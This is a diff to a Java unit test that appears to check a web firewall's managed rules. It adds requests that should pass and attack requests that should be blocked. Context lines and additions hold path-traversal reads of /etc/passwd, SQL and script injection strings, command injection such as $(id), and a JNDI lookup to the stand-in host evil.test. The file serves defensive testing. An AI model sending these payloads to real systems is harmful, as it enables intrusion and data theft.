@@ -45,6 +45,7 @@ class ManagedRulesTest {
         "/graphql?query=%7Bviewer%7Bname%7D%7D&q=1;2;3",
         "/ws?text=100%25%20sure%20(really)",
         "/ws?q=the%20cat%20%26%20id",
+        "/ws?q=a%20b&cat-id=5&ping-every=3",
       })
   void ordinaryRequestsPass(String target) {
     assertThat(blocks(Asked.of(target))).isEmpty();
@@ -60,6 +61,8 @@ class ManagedRulesTest {
         "/chat?file=%252e%252e%252fsecret|path-traversal",
         "/chat?file=..%5c..%5cboot.ini|path-traversal",
         "/chat?file=x%00.png|path-traversal",
+        "/a/..?x=1|path-traversal",
+        "/chat?f=/ETC/PASSWD|path-traversal",
         "/chat?id=1%20UNION%20ALL%20SELECT%20name%20FROM%20users|sql-injection",
         "/chat?id=1+union/**/select+1|sql-injection",
         "/chat?id=%27%20or%20%271%27=%271|sql-injection",
@@ -68,6 +71,8 @@ class ManagedRulesTest {
         "/chat?q=%3Cscript%3Ealert(1)%3C/script%3E|script-injection",
         "/chat?q=%253Cimg%20src=x%20onerror=alert(1)%253E|script-injection",
         "/chat?u=JavaScript:alert(1)|script-injection",
+        "/chat?u=javascript:location=name|script-injection",
+        "/chat?x=onload=y|script-injection",
         "/chat?q=$%7Bjndi:ldap://evil.test/a%7D|command-injection",
         "/chat?q=;cat%20/etc/hosts;|command-injection",
         "/chat?q=$(id)|command-injection",
